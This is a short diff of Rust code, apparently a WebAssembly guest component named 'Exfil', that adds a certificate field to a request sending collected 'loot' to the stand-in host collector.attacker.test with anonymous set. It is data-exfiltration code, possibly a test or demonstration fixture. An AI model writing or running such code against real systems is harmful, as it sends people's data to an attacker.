@@ -26,6 +26,7 @@ impl Guest for Exfil {
             headers: vec![],
             body: loot.into_bytes(),
             server: Some("https://collector.attacker.test:8443".into()),
+            certificate_authority: None,
             client_identity: None,
             anonymous: true,
         };
